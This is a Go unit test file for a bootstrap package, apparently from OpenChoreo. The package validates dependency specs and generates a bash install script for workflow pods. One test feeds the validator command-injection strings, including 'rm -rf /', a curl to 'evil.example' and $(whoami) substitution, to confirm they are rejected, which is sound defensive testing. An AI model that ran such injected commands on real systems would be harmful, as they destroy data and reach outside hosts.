// Copyright 2025 The OpenChoreo Authors
// SPDX-License-Identifier: Apache-2.0

package bootstrap

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSpec_HasDeps(t *testing.T) {
	assert.False(t, Spec{}.HasDeps())
	assert.True(t, Spec{PythonDeps: "requests"}.HasDeps())
	assert.True(t, Spec{RequirementsFile: "requests==2.0"}.HasDeps())
	assert.True(t, Spec{SystemDeps: "gcc"}.HasDeps())
}

func TestValidate_RejectsDenylistedCharacters(t *testing.T) {
	cases := []string{
		"requests; rm -rf /",
		"requests && curl evil.example",
		"requests || true",
		"requests `whoami`",
		"requests $(whoami)",
	}
	for _, c := range cases {
		err := Validate(c, "", "")
		require.Error(t, err, c)
	}
}

func TestValidate_RejectsBothDepsAndRequirementsFile(t *testing.T) {
	err := Validate("requests", "requests==2.0", "")
	require.Error(t, err)
}

func TestValidate_AcceptsCleanInput(t *testing.T) {
	require.NoError(t, Validate("requests,numpy", "", "gcc"))
}

func TestBuild_NoDepsStillProducesScript(t *testing.T) {
	script := Build(Spec{})
	assert.True(t, strings.HasPrefix(script, "#!/usr/bin/env bash\n"))
	assert.Contains(t, script, "set -euo pipefail")
	assert.Contains(t, script, "python -c \"$PYTHON_CODE\"")
}

func TestBuild_PythonDepsReadFromEnvVarOnly(t *testing.T) {
	script := Build(Spec{PythonDeps: "requests,numpy"})
	assert.Contains(t, script, "$PYTHON_DEPS")
	assert.NotContains(t, script, "requests,numpy")
}

func TestBuild_RequirementsFileWinsOverPythonDeps(t *testing.T) {
	script := Build(Spec{PythonDeps: "requests", RequirementsFile: "requests==2.0"})
	assert.Contains(t, script, "uv pip install -r /tmp/requirements.txt")
	assert.NotContains(t, script, "xargs -r uv pip install")
}

func TestBuild_RequirementsFileContentIsExpandedFromEnvVar(t *testing.T) {
	script := Build(Spec{RequirementsFile: "requests==2.0\nnumpy==1.0"})
	assert.Contains(t, script, `printf '%s' "$REQUIREMENTS_FILE" > /tmp/requirements.txt`)
	// The literal requirements text must never appear inline in the
	// script; it only ever flows through the env var at pod runtime.
	assert.NotContains(t, script, "requests==2.0")
	// A single-quoted heredoc delimiter would disable expansion and leave
	// the literal "${REQUIREMENTS_FILE}" in the written file; guard
	// against that regression directly.
	assert.NotContains(t, script, "REQUIREMENTS_EOF")
}

func TestBuild_UseCacheSetsCacheDirAndBanner(t *testing.T) {
	script := Build(Spec{PythonDeps: "requests", UseCache: true})
	assert.Contains(t, script, "export UV_CACHE_DIR=\""+UVCacheDir+"\"")
	assert.Contains(t, script, "[UV CACHE]")
}

func TestBuild_NoCacheOmitsCacheDir(t *testing.T) {
	script := Build(Spec{PythonDeps: "requests", UseCache: false})
	assert.NotContains(t, script, "UV_CACHE_DIR")
}

func TestBuild_SystemDepsWrapsExecInNixShell(t *testing.T) {
	script := Build(Spec{SystemDeps: "gcc"})
	assert.Contains(t, script, "command -v nix-portable")
	assert.Contains(t, script, "nix-portable nix-shell -p $SYSTEM_DEPS")
}

func TestBuild_SystemDepsWithCacheSelfHealsNixDB(t *testing.T) {
	script := Build(Spec{SystemDeps: "gcc", UseCache: true})
	assert.Contains(t, script, "NIX_DB_DIR")
	assert.Contains(t, script, "db.sqlite")
	assert.Contains(t, script, "[NIX CACHE]")
}

func TestBuild_VenvDirTemplatedFromWorkflowName(t *testing.T) {
	script := Build(Spec{PythonDeps: "requests"})
	assert.Contains(t, script, `VENV_DIR="/tmp/venv-${ARGO_WORKFLOW_NAME}"`)
}

func TestBuildStep_IncludesHelperModuleBeforeExec(t *testing.T) {
	script := BuildStep(Spec{PythonDeps: "requests"})
	helperIdx := strings.Index(script, "def write_step_output")
	execIdx := strings.Index(script, "python -c \"$PYTHON_CODE\"")
	require.NotEqual(t, -1, helperIdx)
	require.NotEqual(t, -1, execIdx)
	assert.Less(t, helperIdx, execIdx)
	assert.Contains(t, script, "export PYTHONPATH=\"/tmp:${PYTHONPATH:-}\"")
}
